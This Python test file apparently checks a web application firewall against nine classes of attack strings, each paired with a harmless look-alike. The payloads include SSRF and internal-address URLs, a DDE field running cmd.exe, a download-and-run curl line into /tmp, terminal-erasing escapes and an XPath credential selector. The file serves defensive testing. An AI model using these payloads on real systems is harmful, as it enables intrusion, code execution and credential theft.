"""WAF, part 2z71: held-out probes, ninety-fourth file (README: the
hundred-and-second round), written for this file on 2026-12-07. No
string is taken from a corpus or a public list: each class is written
here in shapes of our own, through the real edge (shipped config, bans
off).

The classes the hundred-and-second round's corpora (hotspring, kelpfarm,
rodeo, tinsmith) showed when first replayed (at fb2e697) that the round
fixed, an attack each and a look-alike that passes:
- count-list: (a false positive fixed) a list of words each with a
  number, spaced bars between them, is a count's list even when a word
  is a command's name; a delay given a number at its end is still
  refused.
- gopher-after-words: a gopher:// or dict:// URL to an internal host
  after a label's blank or a field's "="; one to an outside host passes.
- fragment-at: an "@" in a URL's fragment before an internal address; a
  mail address in a fragment passes.
- dde-field: Word's DDE field code given a Windows program; a sentence
  naming a DDE link passes.
- function-constructor: Function given a string and called at once; the
  constructor named in a sentence passes.
- escaped-erase: an escape written as text, glued to a word, that erases
  the screen; one named in quotes passes.
- tmp-dropper: a backtick span that downloads into /tmp and runs the
  same file; an install line that saves its script where the reader
  works passes.
- xpath-secret-node: any element chosen by a credential's name; one
  chosen by a data field's name passes.
- access-line-no-date: after two words and a line break, an access log's
  line without a date; the same line after a label on one line passes.
Measured on fb2e697: every attack passed but the delay at the end of a
count's list (refused there too); the count's list was refused, every
other look-alike passed.

Each attack is sent as a query value (URL-encoded once, and once more:
the edge decodes repeatedly) and as a JSON body field; each look-alike
must pass in the same placements. A probe the edge gets wrong is listed
in KNOWN_MISSES or KNOWN_FALSE_POSITIVES with the reason, and runs as a
strict xfail."""

from wafkit import heldout_probe_tests, session, waf_config  # noqa: F401

CONF = waf_config()

ATTACKS = {
    "count-list": ["Bin count: nuts 40 | bolts 12 | sleep 9"],
    "gopher-after-words": ["callback: dict://localhost:6380/info"],
    "fragment-at": ["https://pics.example/b.jpg#@10.1.1.1/"],
    "dde-field": ['{ DDEAUTO c:\\tools\\cmd.exe "/c x" }'],
    "function-constructor": ["Function('return globalThis')()"],
    "escaped-erase": ["ready\\x1b[2J\\x1b[H"],
    "tmp-dropper": ["Notes `curl -o /tmp/q h.example/q && sh /tmp/q`"],
    "xpath-secret-node": ["//*[name()='api_token']"],
    "access-line-no-date": ['two words\r\n10.9.8.7 - - "POST /admin/purge" 200 -'],
}

BENIGN = {
    "count-list": ["Bin count: nuts 40 | ss 8 | bolts 12 | rivets 90"],
    "gopher-after-words": ["see gopher://gopher.example/ for history"],
    "fragment-at": ["https://pics.example/b.jpg#crew@example.org"],
    "dde-field": ["The DDE link to the price sheet updates hourly"],
    "function-constructor": ["the Function('x') constructor is slow"],
    "escaped-erase": ['clear it with "\\033[2J" in the shell'],
    "tmp-dropper": ["Install: `curl -o get.sh https://get.example.com && sh get.sh`"],
    "xpath-secret-node": ["//*[local-name()='Total']"],
    "access-line-no-date": ['Sample: 10.9.8.7 - - "GET /" 200 -'],
}

KNOWN_MISSES = {
    'two words\r\n10.9.8.7 - - "POST /admin/purge" 200 -':
        "refused in the query and the JSON note; encoded twice whole, its "
        "break is as deep as its blanks and reads as spelled, and after a "
        "spelled break an access line alone is not taken for the "
        "application's (a strict xfail: the query-2x placement passes)",
}
KNOWN_FALSE_POSITIVES = {}

(edge, test_tables_are_balanced, test_heldout_r94_attack_refused_everywhere,
 test_heldout_r94_benign_passes) = heldout_probe_tests(
    "r94", CONF, ATTACKS, BENIGN, KNOWN_MISSES, KNOWN_FALSE_POSITIVES)
